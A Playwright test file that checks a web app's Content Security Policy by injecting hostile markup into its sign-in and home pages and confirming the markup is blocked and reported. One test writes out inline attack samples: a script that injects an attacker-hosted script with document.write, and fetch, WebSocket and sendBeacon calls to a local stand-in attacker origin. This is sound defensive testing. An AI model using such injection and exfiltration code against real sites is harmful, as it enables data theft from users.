import type { Page } from "@playwright/test";
import { type AttackerSite, startAttackerSite } from "../../fixtures/attacker.ts";
import { type Injection, inject, injections } from "../../fixtures/injected-markup.ts";
import { expect, test } from "../../fixtures/test.ts";

// the browser tells of each breach, and React of a page that is not as it was sent
test.use({ expectedNoise: /./, isTakenOver: false });

type Violation = { directive: string; blocked: string };
type Watched = Window & { ran?: string[]; violations?: Violation[] };

let site: AttackerSite;
let origin: string;

test.beforeEach(async ({ page, context }) => {
  // a page that is fulfilled here counts as one from the internet: what keeps it from the listener is to be the policy
  await context.grantPermissions(["local-network-access"]);
  site = await startAttackerSite();
  origin = `http://127.0.0.1:${site.port}`;
  await page.addInitScript(() => {
    const watched = window as Watched;
    watched.violations = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      watched.violations?.push({ directive: effectiveDirective, blocked: blockedURI }),
    );
  });
});
test.afterEach(() => site.close());

/** Opens a page of ours as it is sent, with the markup put into it on the way, and does what a person may do there. */
async function openInjected(page: Page, address: string, injected: Injection[], hasPolicy: boolean) {
  await page.route(address, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    if (!hasPolicy) delete headers["content-security-policy"];
    await route.fulfill({ response, headers, body: inject(await response.text(), injected) });
  });
  await page.goto(address);
  // sending the form leaves the page
  if (!hasPolicy) await page.waitForLoadState("networkidle");
  for (const id of ["clicked", "link", "form"]) {
    const target = page.locator(`#${id}`);
    if ((await target.count()) > 0) await target.dispatchEvent("click");
  }
}

const ranIn = (page: Page) => page.evaluate(() => [...((window as Watched).ran ?? [])].sort());
const violationsIn = (page: Page) => page.evaluate(() => (window as Watched).violations ?? []);
const namesOf = (injected: Injection[]) => injected.map((one) => one.name).sort();

for (const address of ["/sign-in", "/"]) {
  test(`markup that was injected into ${address} runs nothing, loads nothing and sends nothing, and each is reported`, async ({
    page,
  }) => {
    const injected = injections(origin);
    await openInjected(page, address, injected, true);
    // a base is reported again whenever an address is made out
    const reported = async () =>
      (await violationsIn(page)).filter(
        ({ directive }, index, all) =>
          directive !== "base-uri" || all.findIndex((one) => one.directive === directive) === index,
      );
    const count = (among: string[]) =>
      Object.fromEntries(
        [...new Set(among)].sort().map((one) => [one, among.filter((other) => other === one).length]),
      );
    await expect
      .poll(async () => count((await reported()).map((one) => one.directive)), "each is reported")
      .toEqual(count(injected.map((one) => one.directive)));
    const fromThere = (await reported()).filter(({ blocked }) => blocked.startsWith(origin));
    expect(fromThere).toHaveLength(injected.filter((one) => !one.runs).length);
    expect(await ranIn(page)).toEqual([]);
    expect(site.asked).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(address);
  });
}

test("without the policy every piece of that markup runs, loads or sends", async ({ page }) => {
  const injected = injections(origin);
  const running = injected.filter((one) => one.runs);
  await openInjected(page, "/sign-in", running, false);
  await expect.poll(() => ranIn(page)).toEqual(namesOf(running));
  await page.unrouteAll();
  const loading = injected.filter((one) => !one.runs);
  await openInjected(page, "/sign-in", loading, false);
  const heard = () => [...new Set(site.asked.map((path) => path.split(/[/?]/)[1] ?? ""))].sort();
  // what is relative in the page is asked for below the address that the attacker named
  await expect
    .poll(heard)
    .toEqual(expect.arrayContaining(namesOf(loading).filter((name) => name !== "base")));
});

test("a script that was let in cannot let in others by writing them, nor send anything out, nor read the nonce", async ({
  page,
}) => {
  await page.route("/sign-in", async (route) => {
    const response = await route.fetch();
    const nonce = /'nonce-([^']+)'/.exec(response.headers()["content-security-policy"] ?? "")?.[1];
    const written = `<script src="${origin}/written"><\\/script><script>ran.push("written")<\\/script>`;
    const trusted = `<script id="trusted" nonce="${nonce}">window.ran = ["trusted"]; document.write('${written}')</script>`;
    const body = (await response.text()).replace(/<head[^>]*>/i, (tag) => tag + trusted);
    await route.fulfill({ response, body });
  });
  await page.goto("/sign-in");
  const outcomes = await page.evaluate(async (there) => {
    const open = new WebSocket(there.replace("http", "ws"));
    const socket = new Promise((resolve) => {
      open.onopen = () => resolve("opened");
      open.onerror = () => resolve("blocked");
    });
    const fetched = fetch(`${there}/fetched`, { mode: "no-cors" }).then(
      () => "sent",
      () => "blocked",
    );
    navigator.sendBeacon(`${there}/beacon`, "x");
    return Promise.all([socket, fetched]);
  }, origin);
  expect(outcomes).toEqual(["blocked", "blocked"]);
  expect(await ranIn(page)).toEqual(["trusted"]);
  expect(await page.locator("script[nonce]").first().getAttribute("nonce")).toBe("");
  // each is told of by a task of its own, which may come after what was refused says so
  const reported = async (directive: string) =>
    (await violationsIn(page)).filter((one) => one.directive === directive).length;
  await expect.poll(() => reported("script-src-elem")).toBe(2);
  await expect.poll(() => reported("connect-src")).toBe(3);
  expect(site.asked).toEqual([]);
});
